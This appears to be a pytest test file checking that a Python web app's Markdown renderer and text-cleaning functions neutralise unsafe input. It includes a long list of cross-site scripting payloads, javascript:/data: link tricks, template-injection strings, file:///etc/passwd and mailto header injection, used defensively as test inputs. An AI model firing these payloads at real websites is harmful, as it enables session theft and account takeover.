"""Markdown is rendered safely, whatever is typed; names and excerpts are tidy."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ideahub.core.text.cleaning import MAX_TEXT, TooLong, clean_line, clean_text, shortened
from ideahub.core.text.rendering import excerpt, plain_text, render_markdown

PLAIN = "blockquote br code em h3 h4 h5 h6 hr li p pre s strong table tbody td thead tr ul"
ALLOWED = {
    "a": {"href", "rel"},
    "th": {"scope"},
    **{tag: set[str]() for tag in PLAIN.split()},
    **{tag: {"dir"} for tag in ("blockquote", "table", "ul")},
    "ol": {"dir", "start"},
}
VOID = {"br", "hr"}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


class Inspector(HTMLParser):
    """Fails on anything that may not be in a page, and on tags that do not close."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.tags: list[str] = []
        self.links: list[str] = []
        self.words = ""
        self.feed(html)
        self.close()
        assert not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED
        assert {name for name, _ in attrs} <= ALLOWED[tag]
        given_attributes = dict(attrs)
        if tag == "a" and "href" in given_attributes:
            href = given_attributes["href"] or ""
            assert re.match(
                r"(https?://[^/@\s]+(/|\?|#|$)|mailto:[^?@\s]+@[^?@\s]+$)", href, re.IGNORECASE
            )
            assert given_attributes["rel"] == "nofollow noopener ugc"
            self.links.append(href)
        self.tags.append(tag)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def seen(source: str) -> Inspector:
    """What a browser makes of the rendered source, after checking that it is harmless."""
    return Inspector(render_markdown(source))


ATTACKS = [
    # HTML of every kind
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<object data=javascript:alert(1)><embed src=data:text/html,x>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style='position:fixed;inset:0' class=modal id=notice>over everything</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE html>",
    "</p></div></main><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<br onclick=alert(1)><br/onclick=alert(1)>",
    # htmx and templates
    '<div hx-get="/admin" hx-trigger="load" hx-on:load="alert(1)"></div>',
    '<hx-partial hx-target="#id" hx-swap="outerMorph"><b>x</b></hx-partial>',
    '<p data-hx-post="/sign-out" data-live id="idea-7-support">',
    "{{ 7 * 7 }} {% include 'secret' %} ${7*7} #{7*7} <%= 7*7 %>",
    # schemes
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](ws://example.org)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/sign-out) [y](sign-out) [z](#main) [q](?a=b)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://bank.example@evil.example)",
    "[x](https://[::1)",
    "[x](https://example.org:port/)",
    "[x](https://\u202eexample.org)",
    "[x](https://example.org/\"onmouseover='alert(1)')",
    "[x](https://example.org/'><script>alert(1)</script>)",
    "[x](https://example.org \"t' onclick='alert(1)\")",
    "[x](mailto:a@b.example?subject=x&bcc=everyone@b.example)",
    "[x](mailto:a@b.example%0d%0abcc:c@d.example)",
    "[x](mailto:javascript:alert(1))",
    # other ways to a link
    "<javascript:alert(1)> <data:text/html,x> <https://example.org/><script>",
    "<https://example.org/?q='\"onclick=alert(1)>",
    "[a]: javascript:alert(1)\n[b]: <data:text/html,x> 'y'\n\n[a] [x][a] [b][] [x][b]",
    "[a]: https://example.org/ \"x' onclick='alert(1)\"\n\n[a]",
    "![x](javascript:alert(1)) ![x](https://evil.example/track.gif)",
    "![<img src=x onerror=alert(1)>](https://example.org/x.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a [b](https://b.example) c](https://c.example)",
    "[x](https://a.example/[y](javascript:alert(1)))",
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/"onmouseover=alert(1) javascript:alert(1) data:text/html,x',
    "[](https://example.org) [ ](https://example.org) [\u200b](https://example.org)",
    # inside other things
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick=alert(1) class=x\ncode\n```',
    "``<script>`alert(1)``",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| --- | :-: |\n| <img src=x> | y |",
    "# <script>alert(1)</script> [x](javascript:alert(1))",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "1. <svg/onload=alert(1)>\n99999999999. x",
    "*<script>*alert(1)*</script>*",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;script&#62;",
    "&#0; &#x0; &#xD800; &#x110000; &NotAnEntity; &#8238;abc &#x2066;x",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    f"{BIDI}<script>{BIDI}",
    "\ud83d\udc00 \udfff <b>",
    "&#x202e;gnp.exe &rlm; &lrm;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_harmful_survives(attack: str) -> None:
    html = render_markdown(attack)
    Inspector(html)
    assert not set(html) & {*BIDI, "\x00"}
    html.encode()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "- ", "[", "](", "`", "|"])))
@pytest.mark.slow
def test_nothing_harmful_survives_in_company(parts: list[str]) -> None:
    seen("".join(parts)[:MAX_TEXT])


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab <>[]()!*_`~|#-+=>\\&;:/\"'.1\n\t{}@\u202e\x00", max_size=80))
def test_no_text_breaks_the_rules(source: str) -> None:
    seen(source)
    plain_text(source)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(), max_size=60))
def test_any_character_can_be_stored_and_cleaning_twice_changes_nothing(source: str) -> None:
    once = clean_text(source)
    once.encode()
    assert not set(once) & {*BIDI, "\x00", "\r"}
    assert clean_text(once) == once
    assert clean_line(clean_line(source)) == clean_line(source)
    assert render_markdown(once) == render_markdown(source)


def repeated(part: str) -> str:
    return (part * MAX_TEXT)[:MAX_TEXT]


SLOW = [
    *map(repeated, ["[", "![", "[a](", "[a][", "[[]", "](", "![[]()", '[a](b "', "[x]: y\n", "(<"]),
    *map(
        repeated, ["*", "*a ", "**a _b ", "*a_ ", "_", "`", "`a``", "~~a", "a**b", "\\", "&", "<"]
    ),
    *map(
        repeated, [">", "> ", "- ", "* ", "1. ", "-\n+\n", "- a\n  - b\n", "#\n", "a\n", "\n", " "]
    ),
    *map(
        repeated,
        ["|", "|\n", "a|b\n", "| ", "<!--", "<![CDATA[", "<a ", "https://", "https://a.b "],
    ),
    *map(repeated, ["https://a.b/)", "a@b.c ", "\u0301\u0316", "<br>", "![a](b)", "[![a](b)](c)"]),
    "".join("`" * length + " " for length in range(1, 198)),
    "".join(">" * depth + "a\n" for depth in range(1, 197)),
    "".join("  " * depth + "- a\n" for depth in range(1, 130)),
    "[a]: https://example.org/" + "b" * 1_900 + "\n\n" + "[a]" * 6_000,
    "|".join("a" * 90) + "\n" + "|".join("-" * 90) + "\n" + "a\n" * 9_000,
    "*_" * 3_000 + "a" + "_*" * 3_000,
    "[" * 5_000 + "a" + "](b)" * 3_700,
]


@pytest.mark.parametrize("source", SLOW, ids=lambda source: repr(source[:12]))
@pytest.mark.slow
def test_no_text_takes_long_or_grows_without_bound(source: str) -> None:
    began = time.process_time()
    html = render_markdown(source)
    # Generous: half a second was the longest on a slow machine; quadratic would be minutes.
    assert time.process_time() - began < 5
    assert len(html) < 20 * MAX_TEXT
    Inspector(html)


def test_text_over_the_limit_is_refused_and_line_ends_count_once() -> None:
    render_markdown("a\r\n" * (MAX_TEXT // 2))
    with pytest.raises(TooLong) as refusal:
        render_markdown("a" * (MAX_TEXT + 1))
    assert (refusal.value.length, refusal.value.maximum) == (MAX_TEXT + 1, MAX_TEXT)
    with pytest.raises(ValueError, match="20001 characters; at most 20000"):
        plain_text("a" * (MAX_TEXT + 1))


def test_structure_is_kept() -> None:
    page = seen(
        "# Why\n\n*now* **and** ~~then~~ `x`\nline\n\n> said\n\n- a\n  1. b\n\n---\n\n~~~\ncode"
    )
    expected = "h3 p em strong s code br blockquote p ul li ol li hr pre code"
    assert page.tags == expected.split()


@pytest.mark.parametrize(
    ("source", "tags"),
    [
        ("# a\n## b\n### c\n# d", "h3 h4 h5 h3"),
        ("###### a\n# b\n#### c\n## d", "h3 h3 h4 h4"),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", "h3 h4 h5 h6 h6 h6"),
        ("a\n=\nb\n-", "h3 h4"),
    ],
)
def test_headings_begin_below_those_of_the_page_and_skip_no_level(source: str, tags: str) -> None:
    assert seen(source).tags == tags.split()


@pytest.mark.parametrize(
    ("source", "links", "words"),
    [
        ("see https://a.example/b_c_d.", ["https://a.example/b_c_d"], "see https://a.example/b_c_d."),
        ("(https://a.example/b_(c))", ["https://a.example/b_(c)"], "(https://a.example/b_(c))"),
        ("**https://a.example**", ["https://a.example"], "https://a.example"),
        ("http://a.example/?x=1&y=2!", ["http://a.example/?x=1&y=2"], "http://a.example/?x=1&y=2!"),
        ("xhttps://a.example", [], "xhttps://a.example"),
        ("`https://a.example`", [], "https://a.example"),
        ("[at https://a.example](https://b.example)", ["https://b.example"], "at https://a.example"),
        ("<a@b.example>", ["mailto:a@b.example"], "a@b.example"),
        ("[x](mailto:a@b.example?subject=y)", ["mailto:a@b.example"], "x"),
        ("[x](https://b\u00fccher.example)", ["https://xn--bcher-kva.example"], "x"),
        ("<https://a.example/%E2%80%AE>", ["https://a.example/%E2%80%AE"],
         "https://a.example/%E2%80%AE"),
        ("![a map](https://a.example/m.png)", ["https://a.example/m.png"], "a map"),
        ("[![a map](https://a.example/m.png)](https://b.example)", ["https://b.example"], "a map"),
        ("[](https://a.example)", ["https://a.example"], "https://a.example"),
        ("[x](/ideas/7)", [], "[x](/ideas/7)"),
        ("[x][1]\n\n[1]: https://a.example", ["https://a.example"], "x"),
    ],
)  # fmt: skip
def test_links(source: str, links: list[str], words: str) -> None:
    page = seen(source)
    assert page.links == links
    assert page.words == words


def test_long_addresses_stay_text() -> None:
    source = "https://a.example/" + "b" * 2_000
    assert seen(source).links == []
    assert seen(f"[x]({source})").links == []


def test_tables_may_lack_headings_and_break_lines() -> None:
    page = seen("| | |\n|-|-|\n| a<br>b | c \\| d |")
    assert " ".join(page.tags) == "table tbody tr td br td"
    assert page.words.split() == ["a", "b", "c", "|", "d"]
    page = seen("| x | |\n|-|-|\n| a | b |")
    assert " ".join(page.tags) == "table thead tr th td tbody tr td td"


def test_what_is_nested_too_deep_is_shown_as_typed() -> None:
    source = ">" * 50 + " here\n\n" + "- " * 50 + "there"
    assert "here" in seen(source).words
    assert "there" in seen(source).words
    assert "there" in plain_text(source)


def test_template_text_stays_text() -> None:
    assert seen("{{ viewer.email }} {% raw %}").words == "{{ viewer.email }} {% raw %}"


@pytest.mark.parametrize(
    ("typed", "line"),
    [
        ("  Safe \t routes\r\n to  school ", "Safe routes to school"),
        ("A\u202eda\u2066", "Ada"),
        ("A\u200bd\xada\ufeff", "Ada"),
        ("e\u0301", "\u00e9"),
        ("a" + "\u0301" * 50, "\u00e1\u0301\u0301"),
        ("\U0001f469\u200d\U0001f4bb", "\U0001f469\u200d\U0001f4bb"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("\u200d\u3164 \u200e", ""),
        ("\ud800 x\x00", "\ufffd x"),
        ("", ""),
    ],
)
def test_names_and_titles_are_one_visible_line(typed: str, line: str) -> None:
    assert clean_line(typed) == line


def test_a_line_may_have_a_maximum() -> None:
    assert clean_line(" abc ", 3) == "abc"
    with pytest.raises(TooLong):
        clean_line("abcd", 3)


def test_long_lines_are_cleaned_in_reasonable_time() -> None:
    began = time.process_time()
    clean_line("a" + "\u0591\u05a0" * 500_000)
    assert time.process_time() - began < 5


def test_marks_that_hebrew_and_arabic_need_stay_in_texts() -> None:
    assert clean_text("שלום!\u200f") == "שלום!\u200f"
    assert clean_text(f"a{BIDI}b\u2028c") == "ab\nc"


def test_plain_text_has_the_words_and_no_marks() -> None:
    source = "# Why\n\n**Bold** [link](https://a.example)\n\n| a | b |\n|-|-|\n| c | d |"
    assert plain_text(source).split() == ["Why", "Bold", "link", "a", "b", "c", "d"]
    assert plain_text("```\nx<y\n```\n`*z*` &amp; \\*") == "x<y\n\n*z* & *"


def test_excerpts_end_between_words() -> None:
    assert excerpt("# A plan\n\nfor *every* school route", 22) == "A plan for every…"
    assert excerpt("Short", 22) == "Short"
    assert excerpt("") == ""
    assert len(excerpt("a" * 500)) == 200


@given(st.text(alphabet="ab ,.", max_size=40), st.integers(1, 30))
def test_shortened_text_fits(text: str, length: int) -> None:
    short = shortened(text, length)
    assert len(short) <= length
    assert short == text or short.endswith("…")
